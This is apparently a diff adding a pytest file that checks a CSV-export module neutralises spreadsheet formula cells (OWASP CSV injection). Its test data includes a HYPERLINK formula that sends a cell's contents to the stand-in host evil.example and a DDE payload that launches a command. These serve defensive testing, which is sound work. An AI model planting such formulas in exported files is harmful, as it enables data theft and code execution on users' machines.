@@ -1,0 +1,40 @@
+"""CSV formula neutralising (OWASP CSV injection) in every CSV planb writes."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from planb import csvsafe
+
+
+@pytest.mark.parametrize("cell", [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "=cmd|' /C calc'!A0",
+    "+33 6 12 34 56 78",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+])
+def test_cells_a_spreadsheet_would_evaluate_get_a_quote(cell: str) -> None:
+    assert csvsafe.neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["Marie Martin", "06 12 34 56 78", "marie@metropole.lab",
+                                  "Direction des finances", "", "1+1", "'already"])
+def test_ordinary_cells_are_left_as_they_are(cell: str) -> None:
+    assert csvsafe.neutralise(cell) == cell
+
+
+def test_writer_neutralises_every_cell_and_stays_valid_csv() -> None:
+    stream = io.StringIO()
+    out = csvsafe.writer(stream, delimiter=";")
+    out.writerow(["name", "mobile"])
+    out.writerows([["=1+2", "+33 6 12 34 56 78"], ["Zoé; \"la\" chef", None]])
+    rows = list(csv.reader(io.StringIO(stream.getvalue()), delimiter=";"))
+    assert rows == [["name", "mobile"], ["'=1+2", "'+33 6 12 34 56 78"],
+                    ["Zoé; \"la\" chef", ""]]
+    assert not any(cell.startswith(csvsafe.FORMULA_STARTS) for row in rows for cell in row)
